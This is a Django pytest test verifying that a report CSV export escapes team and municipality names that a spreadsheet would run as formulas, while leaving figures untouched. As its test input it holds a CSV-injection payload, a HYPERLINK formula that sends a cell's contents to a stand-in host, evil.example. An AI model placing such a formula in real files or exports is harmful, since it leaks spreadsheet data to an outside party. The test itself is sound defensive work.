"""A name a spreadsheet would run as a formula reaches the report CSV as text."""

from __future__ import annotations

import csv
import io

from django.urls import reverse

from indicators.models import Report

FORMULA = '=HYPERLINK("https://evil.example/?"&A1,"Click")'


def test_team_and_municipality_names_are_escaped_numbers_are_not(
    client, coordinator, report_data, team
):
    team.name = FORMULA
    team.save()
    team.municipality.name = "@SUM(1+1)"
    team.municipality.save()
    client.force_login(coordinator)
    client.post(
        reverse("indicators:report-create"),
        {"municipality": coordinator.municipality_id, "period": "2026-08"},
    )
    report = Report.objects.get(status="draft", period="2026-08")
    response = client.get(reverse("indicators:report-csv", args=[report.pk]))
    cells = [
        c for row in csv.reader(io.StringIO(response.content.decode("utf-8-sig"))) for c in row
    ]
    assert "'" + FORMULA in cells and FORMULA not in cells
    assert "'@SUM(1+1)" in cells and "@SUM(1+1)" not in cells
    assert not [c for c in cells if c[:1] in ("=", "+", "@", "\t", "\r")]
    assert "7" in cells and "<5" in cells  # figures stay as they are
